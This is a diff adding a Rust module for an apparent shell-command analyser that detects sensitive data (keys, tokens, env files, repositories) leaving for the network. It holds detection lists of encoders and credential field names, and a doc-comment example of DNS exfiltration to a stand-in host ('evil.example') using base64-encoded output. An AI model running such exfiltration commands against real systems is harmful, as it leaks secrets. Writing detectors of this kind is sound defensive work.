@@ -1,0 +1,256 @@
+//! Sensitive data that leaves for the network.
+
+use super::flow::{Flow, Taint};
+use super::host::{host_of, is_drop, is_forge, is_local, vendor};
+use super::send::{Part, Role, Sending, Transport, sending};
+use crate::effects::options::{Spec, Words};
+use crate::effects::secrets::Class;
+use crate::effects::{Certainty, Cx, Effect, EffectKind, Scope, Trait};
+use crate::syntax::{CodeFact, Invocation, Origin, Seg, Stdin, Value};
+
+/// Effects of sending.
+pub(super) fn effects(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
+    code(inv, cx, out);
+    if inv.wrapper && inv.name() != Some("ssh") {
+        return;
+    }
+    let Some(sending) = sending(inv) else { return };
+    if sending.parts.iter().any(|part| matches!(part, Part::Repository)) {
+        repository(inv, cx, out);
+        return;
+    }
+    let flow = Flow::new(cx);
+    let worst = sending
+        .parts
+        .iter()
+        .take(64)
+        .filter_map(|part| taint(part, &sending, inv, cx, &flow))
+        .fold(None, |worst, taint| Taint::worst(worst, Some(taint)));
+    let host = sending.host.clone().unwrap_or_else(|| "unknown host".to_owned());
+    if let Some(taint) = worst {
+        if let Some(sure) = sureness(&taint, &sending) {
+            out.push(leave(inv, cx, &host, &taint, sure));
+        }
+    } else if is_drop(&host) && uploads(inv, &sending) {
+        let taint = Taint { what: "a file".to_owned(), class: Class::Tree, variable: None, sure: true };
+        out.push(leave(inv, cx, &host, &taint, Certainty::Likely));
+    }
+}
+
+fn leave(inv: &Invocation, cx: &Cx, host: &str, taint: &Taint, sure: Certainty) -> Effect {
+    let mut effect = cx.effect(EffectKind::NetExfiltrate, host, Scope::Remote(host.to_owned()), inv.span);
+    effect.scope = Scope::Remote(host.to_owned());
+    effect.certainty = sure;
+    effect.via.push(format!("reads {}", taint.what));
+    match taint.class {
+        Class::Tree => effect.with([Trait::Bulk]),
+        Class::Account | Class::State => effect,
+        Class::History | Class::Token | Class::Environment | Class::EnvFile => effect.with([Trait::Secret]),
+        Class::Home => effect.with([Trait::Bulk, Trait::Whole, Trait::Secret]),
+        Class::Credential | Class::Key => effect.with([Trait::Secret, Trait::Valuable]),
+    }
+}
+
+/// How sure we are that it should not leave; `None` where it is everyday.
+fn sureness(taint: &Taint, sending: &Sending) -> Option<Certainty> {
+    let local = sending.host.as_deref().is_some_and(is_local);
+    if local && taint.class < Class::Key {
+        return None;
+    }
+    match (sending.transport, taint.class) {
+        (Transport::Account, Class::Tree | Class::Account | Class::State | Class::Token | Class::History) => None,
+        (Transport::Account, _) => Some(Certainty::Likely),
+        (Transport::Open, Class::Tree | Class::Account | Class::State | Class::Token | Class::History) => {
+            Some(Certainty::Likely)
+        }
+        (Transport::Open, _) if local || !taint.sure => Some(Certainty::Likely),
+        (Transport::Open, _) => Some(Certainty::Certain),
+    }
+}
+
+fn taint(part: &Part, sending: &Sending, inv: &Invocation, cx: &Cx, flow: &Flow) -> Option<Taint> {
+    match part {
+        Part::File(value) => flow.sent(value, inv, cx.index),
+        Part::Stdin => flow.input(inv, cx.index, 0),
+        Part::Output => flow.output(cx.index, 0),
+        Part::Repository => None,
+        Part::Text(value, role) => {
+            let taint = flow.value(value, cx.index, 0).or_else(|| encoded_name(value, *role, cx))?;
+            (!is_login(&taint, value, *role, sending)).then_some(taint)
+        }
+    }
+}
+
+/// `dig $(… | base64).evil.example`: output that somebody took care to encode as a name.
+fn encoded_name(value: &Value, role: Role, cx: &Cx) -> Option<Taint> {
+    let encoder = |index: usize| {
+        cx.line
+            .invocations
+            .get(index)
+            .and_then(Invocation::name)
+            .is_some_and(|name| matches!(name, "base64" | "base32" | "xxd" | "od" | "hexdump"))
+    };
+    let below = |index: usize| match cx.line.invocations.get(index).map(|inv| &inv.stdin) {
+        Some(Stdin::Pipe(from)) => from.iter().take(16).any(|from| encoder(*from)),
+        _ => false,
+    };
+    let named = role == Role::Name
+        && value.suffix().contains('.')
+        && value.sources().take(16).any(|index| encoder(index) || below(index));
+    named.then(|| Taint { what: "encoded output".to_owned(), class: Class::Account, variable: None, sure: false })
+}
+
+/// Says whether a secret travels as what it is for: to log in where it belongs.
+fn is_login(taint: &Taint, value: &Value, role: Role, sending: &Sending) -> bool {
+    if taint.class > Class::EnvFile || taint.class == Class::Environment {
+        return role == Role::Login && taint.class < Class::Key && taint.class != Class::Environment;
+    }
+    if taint.class < Class::Token {
+        return false;
+    }
+    let host = sending.host.as_deref();
+    if host.is_some_and(is_drop) {
+        return false;
+    }
+    let owners = taint.variable.as_deref().and_then(vendor);
+    let at_home = owners.is_some_and(|owners| host.is_none_or(|host| owners.iter().any(|owner| host.contains(owner))));
+    let cloud_key =
+        taint.variable.as_deref().is_some_and(|name| name.starts_with("AWS_SECRET") || name.starts_with("AWS_SESSION"));
+    match role {
+        Role::Login => true,
+        Role::Name => false,
+        Role::Header if cloud_key => at_home,
+        Role::Header => at_home || is_login_name(header_name(value)),
+        Role::Data if owners.is_some() => at_home,
+        Role::Data => host.is_none() || in_address(value) || is_chat(host) || is_login_name(&name_in_front(value)),
+    }
+}
+
+fn header_name(value: &Value) -> &str {
+    value.prefix().split(':').next().unwrap_or("")
+}
+
+fn is_login_name(name: &str) -> bool {
+    const NAMES: &[&str] = &[
+        "auth",
+        "token",
+        "key",
+        "secret",
+        "pass",
+        "pwd",
+        "cookie",
+        "appid",
+        "sig",
+        "session",
+        "credential",
+        "code",
+        "x-amz",
+        "bearer",
+    ];
+    let name = name.to_ascii_lowercase();
+    NAMES.iter().any(|known| name.contains(known))
+}
+
+/// The name that stands in front of the first unknown part: `key=`, `"token": "`.
+fn name_in_front(value: &Value) -> String {
+    let mut front = "";
+    for seg in value.segs() {
+        match seg {
+            Seg::Lit(text) => front = text,
+            Seg::Unknown(unknown) if !matches!(unknown.origin, Origin::Other(_)) => break,
+            _ => {}
+        }
+    }
+    let front = front.trim_end_matches(|letter: char| !letter.is_ascii_alphanumeric());
+    front
+        .rsplit(|letter: char| !(letter.is_ascii_alphanumeric() || matches!(letter, '_' | '-')))
+        .next()
+        .unwrap_or("")
+        .to_owned()
+}
+
+/// `https://user:$TOKEN@host/`
+fn in_address(value: &Value) -> bool {
+    value.segs().iter().any(|seg| matches!(seg, Seg::Lit(text) if text.starts_with('@')))
+}
+
+/// Hosts whose addresses hold a token by design.
+fn is_chat(host: Option<&str>) -> bool {
+    host.is_some_and(|host| {
+        matches!(
+            host,
+            "api.telegram.org" | "hooks.slack.com" | "discord.com" | "discordapp.com" | "ntfy.sh" | "api.pushover.net"
+        )
+    })
+}
+
+/// Says whether a file or the output of a program goes along.
+fn uploads(inv: &Invocation, sending: &Sending) -> bool {
+    sending.parts.iter().any(|part| match part {
+        Part::File(..) => true,
+        Part::Stdin => matches!(inv.stdin, Stdin::Pipe(_) | Stdin::File(_)),
+        Part::Text(value, Role::Data) => value.sources().next().is_some(),
+        _ => false,
+    })
+}
+
+/// Code that reads something sensitive and talks to the network.
+fn code(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
+    let Some(host) = inv.facts.iter().find_map(|fact| match fact {
+        CodeFact::Network { host, sends: true } => Some(host_of(&host.text())),
+        _ => None,
+    }) else {
+        return;
+    };
+    let flow = Flow::new(cx);
+    let Some(taint) = Taint::worst(flow.facts(inv), flow.input(inv, cx.index, 0)) else { return };
+    if (is_local(&host) && taint.class < Class::Key) || matches!(taint.class, Class::Token | Class::State | Class::Tree)
+    {
+        return;
+    }
+    let sure = if taint.class == Class::EnvFile { Certainty::Possible } else { Certainty::Likely };
+    let text =
+        inv.words().flatten().any(|word| matches!(word, "-c" | "-e" | "-r")) || matches!(inv.stdin, Stdin::Text(_));
+    out.push(leave(inv, cx, &host, &taint, if text { Certainty::Likely } else { sure }));
+}
+
+/// `git push https://somewhere/x`: the repository goes to a place that is not set up as its remote.
+fn repository(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
+    let words = Words::of(
+        &inv.args,
+        &Spec::new(&["-C", "-c", "-o", "--git-dir", "--work-tree", "--push-option", "--repo", "--receive-pack"]),
+    );
+    let Some(target) = words.operands.get(1).map(|arg| &arg.value) else { return };
+    let named = target.text();
+    let text = if is_address(&named) { named.into_owned() } else { remote_of(&named, cx).unwrap_or_default() };
+    if !is_address(&text) {
+        return;
+    }
+    let host = host_of(&text);
+    if is_local(&host) || is_forge(&host) || host.starts_with('$') || host.contains("$(") {
+        return;
+    }
+    let sure =
+        if text.starts_with("http") || text.starts_with("git://") { Certainty::Likely } else { Certainty::Possible };
+    let taint = Taint { what: "the repository".to_owned(), class: Class::Tree, variable: None, sure: true };
+    out.push(leave(inv, cx, &host, &taint, sure));
+}
+
+/// `https://…`, `me@host:path`; not a remote's name, a folder or `file://`.
+fn is_address(text: &str) -> bool {
+    if text.starts_with("file:") {
+        return false;
+    }
+    text.contains("://") || text.find('@').is_some_and(|at| text.get(at..).is_some_and(|rest| rest.contains(':')))
+}
+
+/// The URL that the same line gave to a remote.
+fn remote_of(name: &str, cx: &Cx) -> Option<String> {
+    let start = cx.index.saturating_sub(64);
+    cx.line.invocations.get(start..cx.index)?.iter().rev().filter(|inv| inv.name() == Some("git")).find_map(|inv| {
+        let words = Words::of(&inv.args, &Spec::new(&["-C", "-c", "-t", "-m"]));
+        let adds = words.operand(0) == Some("remote") && matches!(words.operand(1), Some("add" | "set-url"));
+        (adds && words.operand(2) == Some(name))
+            .then(|| words.operands.get(3).map(|arg| arg.value.text().into_owned()))?
+    })
+}
